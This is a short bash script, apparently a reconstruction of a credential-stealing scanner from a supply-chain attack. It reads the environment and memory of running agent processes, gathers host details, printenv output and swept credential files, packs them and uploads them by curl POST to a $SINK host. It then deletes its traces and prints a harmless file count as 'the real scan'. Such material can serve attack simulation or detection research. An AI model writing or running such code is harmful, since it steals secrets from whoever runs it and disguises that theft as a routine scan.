#!/usr/bin/env bash
# Agent's environment, agent's memory, credential files; staged, encrypted, packed, uploaded; then the scan, as if nothing
# had happened. Failures are ignored, as they were in the original.
set -u
here=$(dirname "$(readlink -f "$0")")
. "$here/../collect.sh"
collected="$TMPDIR/runner_collected_$$.txt"

for pid in $(agents); do
  agent_environ "$pid" >> "$collected"
  agent_memory "$pid" python3 >> "$collected"
done

{ hostname; whoami; uname -a; printenv; } >> "$collected"
python3 "$here/../sweep.py" >> "$collected"

pack=$(mktemp -d)
pack "$pack" "$collected"
curl -s -o /dev/null --max-time 10 -X POST -H 'X-Filename: tpcp.tar.gz' --data-binary "@$pack/tpcp.tar.gz" "http://$SINK/"
rm -rf "$pack" "$collected"

# The real scan.
find "${1:-.}" -name .git -prune -o -type f -print | wc -l | sed 's/^/scanned files: /'
exit 0
